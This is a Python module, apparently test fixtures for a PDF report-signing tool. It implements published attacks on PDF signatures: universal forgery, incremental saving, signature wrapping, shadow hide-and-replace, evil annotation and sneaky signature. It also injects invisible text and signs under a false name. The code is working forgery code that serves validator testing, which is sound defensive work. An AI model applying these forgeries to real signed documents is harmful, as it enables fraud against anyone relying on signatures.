"""Published attacks on signed PDFs, made of a certificate that was issued once, and of pages that are none.

Names as in the papers:

- Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk: 1 Trillion Dollar Refund: How To Spoof PDF Signatures (ACM CCS 2019):
  Universal Signature Forgery, Incremental Saving Attack, Signature Wrapping Attack.
- Mainka, Mladenov, Rohlmann: Shadow Attacks: Hiding and Replacing Content in Signed PDFs (NDSS 2021): hide, replace,
  hide-and-replace.
- Rohlmann, Mladenov, Mainka, Schwenk: Breaking the Specification: PDF Certification (IEEE S&P 2021): Evil Annotation Attack,
  Sneaky Signature Attack.
"""

import io
import re

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject

from soundedge.report.sign import sign_pdf


def attached(pdf):
    """Name → bytes of what is attached."""
    return {name: bytes(raw[0]) for name, raw in PdfReader(io.BytesIO(pdf)).attachments.items()}


def forged(other_page, record, words):
    """Record injection: another part's page, a genuine record attached, the wanted words in invisible ink (text mode 3)."""
    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(other_page)).pages:
        page.pop("/Annots", None)  # with it the other page's own signature field
        writer.add_page(page)
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    first = writer.pages[0]
    first["/Resources"].get_object()["/Font"].get_object()[NameObject("/Unseen")] = writer._add_object(font)
    lines = "".join(f"({word}) Tj 0 -12 Td " for word in words)
    _draw(writer, first, f"q BT /Unseen 8 Tf 3 Tr 40 40 Td {lines}ET Q".encode())
    writer.add_attachment("record.json", record)
    return _written(writer)


def shadowed(pdf):
    """Shadow attack, the part before signing: the page as the signer sees it, drawn over what is to be shown later."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf))
    _draw(writer, writer.pages[0], b"q 1 1 1 rg 0 0 600 900 re f Q")
    return _written(writer)


def revealed(pdf):
    """Shadow attack, hide-and-replace, the part after signing: an update takes the cover off again."""
    def uncover(writer, page):
        page["/Contents"] = type(page["/Contents"])(list(page["/Contents"])[:-1])

    return _updated(pdf, uncover)


def incremental_saving(pdf):
    """Incremental Saving Attack: another page drawn over the signed one in an appended update."""
    from pyhanko.pdf_utils import generic

    def draw(writer, page):
        white = writer.add_object(generic.StreamObject(stream_data=b"q 1 1 1 rg 0 0 600 900 re f Q"))
        old = page.raw_get("/Contents")
        page["/Contents"] = generic.ArrayObject([*(old if isinstance(old, generic.ArrayObject) else [old]), white])

    return _updated(pdf, draw)


def incremental_saving_without_xref(pdf):
    """Incremental Saving Attack, variant without table and trailer: objects alone, which lenient readers take."""
    return pdf + b"\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"


def evil_annotation(pdf):
    """Evil Annotation Attack: an annotation that hides what was certified."""
    from pyhanko.pdf_utils import generic

    def note(writer, page):
        made = generic.DictionaryObject({
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"), generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
            generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 600, 900))),
            generic.pdf_name("/Contents"): generic.pdf_string("released"),
        })
        page["/Annots"] = generic.ArrayObject([writer.add_object(made)])

    return _updated(pdf, note)


def sneaky_signature(pdf, key, at):
    """Sneaky Signature Attack: a stranger's own signature field put over the certified page."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign.fields import SigFieldSpec, append_signature_field
    from pyhanko.sign.signers import PdfSignatureMetadata, PdfSigner

    from soundedge.report.sign import _certificate, _private, _with_key

    class Sneaky(PdfSigner):
        def _enforce_certification_constraints(self, *_):
            """A stranger is not held by what the certificate forbids."""

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    append_signature_field(writer, SigFieldSpec("Other", box=(0, 0, 600, 900)))
    signer = _with_key(_certificate(key.certificate_pem), _private(key.key_pem))
    out = Sneaky(PdfSignatureMetadata(field_name="Other", md_algorithm="sha256"), signer=signer).sign_pdf(writer)
    return out.getvalue()


def signature_wrapping(pdf):
    """Signature Wrapping Attack: a second /ByteRange in the gap moves the signed end behind content of the attacker's own."""
    numbers = re.search(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)", pdf)
    _, first, last, length = map(int, numbers.groups())
    container = re.match(rb"<([0-9a-fA-F]+?)(?:00)*>", pdf[first:last])[0]
    evil = b"\n9999 0 obj\n<< /Type /Catalog >>\nendobj\n"
    room = 40
    moved = first + len(container) + room + len(evil)
    entry = b"/ByteRange [0 %d %d %d]" % (first, moved, length)
    return pdf[:first] + container + entry.ljust(room + 20)[:room] + evil + pdf[last:last + length]


UNIVERSAL = {  # Universal Signature Forgery: what the validator needs is taken away or made senseless
    "no contents": (rb"/Contents <", b"/Contenti <"),
    "contents null": (rb"/Contents <[0-9a-f]{4}", b"/Contents <0000"),
    "no byte range": (rb"/ByteRange", b"/ByteRangf"),
    "negative range": (rb"/ByteRange \[0 ", b"/ByteRange [-"),
    "no filter": (rb"/SubFilter", b"/SubFiltes"),
}


def universal(pdf, variant):
    """Universal Signature Forgery in one of its variants; the file keeps its length."""
    before, after = UNIVERSAL[variant]
    made, count = re.subn(before, after, pdf, count=1)
    assert count == 1, variant
    return made


def signed_by(key, pdf, at):
    """A page signed by a stranger, who calls themselves what they like."""
    return sign_pdf(pdf, key, at=at, reason="KBW-2026-014: released", name="Kelderbeck Basin Works")


def _draw(writer, page, drawing):
    stream = DecodedStreamObject()
    stream.set_data(drawing)
    held = page["/Contents"]
    parts = list(held) if isinstance(held, ArrayObject) else [page.raw_get("/Contents")]
    page[NameObject("/Contents")] = ArrayObject([*parts, writer._add_object(stream)])


def _written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _updated(pdf, change):
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    reference = writer.find_page_for_modification(0)[0]
    change(writer, reference.get_object())
    writer.mark_update(reference)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
